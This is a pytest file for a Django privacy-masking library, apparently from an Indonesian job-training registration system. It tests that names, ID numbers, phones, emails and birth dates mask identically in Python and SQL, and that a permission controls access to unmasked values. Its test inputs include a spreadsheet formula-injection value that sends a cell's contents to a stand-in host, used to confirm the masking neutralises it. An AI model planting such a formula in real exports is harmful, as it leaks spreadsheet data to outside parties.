"""Every mask of prakerja.lib.privacy: its format over the whole kind of input, and its SQL twin giving the
same text on this database (the suite runs on SQLite and PostgreSQL)."""
from __future__ import annotations

import datetime as dt
import random

import pytest
from django.db.models import F, Value

from prakerja.lib import privacy
from registration.models import Applicant

rng = random.Random(20210401)


def _digits(n: int) -> str:
    return "".join(rng.choice("0123456789") for _ in range(n))


WORDS = ["Siti", "Aminah", "Budi", "Dewi", "Ñoño", "Élise", "=HYPERLINK(\"http://x.example/?d=\"&B2,\"Cek\")",
         "-1", "@SUM(A1)", "O'Neil", "Nur", "Ahmad", "😀x", "a"]
NUMBERS = ["", *(_digits(n) for n in range(1, 17)), *(_digits(16) for _ in range(20)), "3.20101E+15", "32-01"]
PHONES = ["", "0812", "+62812345678", "+6281234567890", "+628123456789012", "+62 (0)822-7150",
          *("+628" + _digits(n) for n in range(5, 13))]
NAMES = ["", " ", "   ", "Dewi", " Dewi ", "Siti Aminah", "Siti  Aminah", "  Siti   Aminah  ",
         "Muhammad Rizki Pratama", *(" ".join(rng.choice(WORDS) for _ in range(rng.randint(1, 4))) for _ in range(40))]
EMAILS = ["", "siti@example.com", "S@x.id", "@example.com", "no-at-sign", "a@b@c", "siti@", "élise@exämple.id",
          *(f"{_digits(rng.randint(1, 8))}@example.com" for _ in range(10))]
DATES = [None, dt.date(1900, 1, 1), dt.date(1990, 12, 1), dt.date(2005, 2, 28), dt.date(2024, 2, 29)]


@pytest.mark.parametrize(("value", "masked"), [
    ("3201014112900001", "3201********0001"), ("", ""), (None, ""), ("12345678", "********"),
    ("123456789", "1234********6789"),
])
def test_it_masks_nik_and_kk_numbers(value, masked):
    assert privacy.mask_number(value) == masked


@pytest.mark.parametrize(("value", "masked"), [
    ("+6281234567890", "+62812****7890"), ("+62812345678", "+62812****5678"), ("+628123456789012", "+62812****9012"),
    ("0812345678", "********"), ("", ""), (None, ""),
])
def test_it_masks_phones_one_way(value, masked):
    assert privacy.mask_phone(value) == masked


@pytest.mark.parametrize(("value", "masked"), [
    ("Siti Aminah", "S**** A****"), ("Dewi", "D****"), ("Muhammad Rizki Pratama", "M**** R****"),
    ("  Siti   Aminah ", "S**** A****"), ('=HYPERLINK("http://x.example/?d="&B2,"Cek")', "=****"), ("", ""),
    ("   ", ""), (None, ""),
])
def test_it_masks_names_one_word_too(value, masked):
    assert privacy.mask_name(value) == masked


@pytest.mark.parametrize(("value", "masked"), [
    ("siti@example.com", "s***@example.com"), ("@example.com", "***@example.com"), ("no-at-sign", "***"),
    ("a@b@c", "a***@b@c"), ("", ""), (None, ""),
])
def test_it_masks_emails(value, masked):
    assert privacy.mask_email(value) == masked


def test_it_masks_birth_dates_to_the_year():
    assert privacy.mask_birth_date(dt.date(1990, 12, 1)) == "**-**-1990"
    assert privacy.mask_birth_date(None) == ""


def test_masks_never_tell_the_length_of_what_they_hide():
    assert {len(privacy.mask_number(_digits(n))) for n in range(9, 17)} == {16}
    assert {len(privacy.mask_phone("+628" + _digits(n))) for n in range(8, 12)} == {14}
    assert privacy.mask_name("Al Bo") == privacy.mask_name("Alexandra Bonaventura")[:1] + "**** B****"


def _in_sql(func, values: list) -> list:
    """func(Value(v)) for every v, computed by the database in one query."""
    row = Applicant.objects.annotate(**{f"m{i}": func(Value(v)) for i, v in enumerate(values)}).values_list(
        *(f"m{i}" for i in range(len(values)))).first()
    return [masked or "" for masked in row]


@pytest.mark.parametrize(("python", "sql", "values"), [
    (privacy.mask_number, privacy.MaskedNumber, NUMBERS),
    (privacy.mask_phone, privacy.MaskedPhone, PHONES),
    (privacy.mask_name, privacy.MaskedName, NAMES),
    (privacy.mask_email, privacy.MaskedEmail, EMAILS),
    (privacy.mask_birth_date, privacy.MaskedBirthDate, DATES[1:]),
], ids=["number", "phone", "name", "email", "birth_date"])
def test_the_sql_twin_gives_exactly_the_python_mask(applicant, python, sql, values):
    assert _in_sql(sql, values) == [python(v) for v in values]


def test_the_sql_twins_read_columns_alike(applicant, other_applicant):
    Applicant.objects.filter(pk=other_applicant.pk).update(full_name="  Nur   Ahmad Z ")
    rows = Applicant.objects.order_by("pk").annotate(
        n=privacy.MaskedNumber(F("nik")), k=privacy.MaskedNumber(F("kk")), p=privacy.MaskedPhone(F("phone")),
        m=privacy.MaskedName(F("full_name")), e=privacy.MaskedEmail(F("user__email")),
        b=privacy.MaskedBirthDate(F("birth_date")),
    ).values_list("nik", "kk", "phone", "full_name", "user__email", "birth_date", "n", "k", "p", "m", "e", "b")
    for nik, kk, phone, name, email, birth, *masked in rows:
        assert masked == [privacy.mask_number(nik), privacy.mask_number(kk), privacy.mask_phone(phone),
                          privacy.mask_name(name), privacy.mask_email(email), privacy.mask_birth_date(birth)]


def test_only_holders_of_the_one_permission_see_whole_values(staff, viewer):
    from django.contrib.auth.models import Permission

    assert privacy.can_see_whole(staff)
    assert not privacy.can_see_whole(viewer)
    viewer.user_permissions.add(Permission.objects.get(content_type__app_label="registration", codename="view_full_nik"))
    from registration.models import User

    viewer = User.objects.get(pk=viewer.pk)
    assert privacy.can_see_whole(viewer)
    viewer.is_active = False
    assert not privacy.can_see_whole(viewer)
